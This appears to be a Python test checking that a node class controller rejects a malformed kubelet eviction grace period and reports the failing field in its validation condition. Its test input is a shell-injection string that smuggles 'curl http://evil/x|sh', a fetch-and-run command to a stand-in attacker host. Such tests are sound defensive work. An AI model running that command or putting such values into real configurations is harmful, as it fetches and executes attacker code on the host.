"""The node class controller's validation judges the kubelet values too: a class that an
older CRD admitted with a grace period that is no duration is not Ready, and its
ValidationSucceeded condition says which field and why."""

from __future__ import annotations

from typing import TYPE_CHECKING

from karpy.cloud.aws.nodeclass import resolve
from tests.aws.nodeclass.helpers import CLUSTER, nodeclass

if TYPE_CHECKING:
    from karpy.cloud.aws.clients import AWSClients
    from karpy.sandbox.aws.seed import Account

PAYLOAD = "1m'; curl http://evil/x|sh; echo '"


async def test_a_grace_period_that_is_no_duration_fails_validation(
    aws_account: Account, aws_clients: AWSClients
) -> None:
    kubelet = {
        "evictionSoft": {"memory.available": "500Mi"},
        "evictionSoftGracePeriod": {"memory.available": PAYLOAD},
    }
    result = await resolve(
        nodeclass(kubelet=kubelet), aws_clients, cluster_name=CLUSTER, k8s_version="1.31"
    )
    condition = result.status.condition("ValidationSucceeded")
    assert condition is not None
    assert (condition.status, condition.reason) == ("False", "KubeletValidationFailed")
    assert "spec.kubelet.evictionSoftGracePeriod.memory.available" in condition.message
    ready = result.status.condition("Ready")
    assert ready is not None and ready.status == "False"
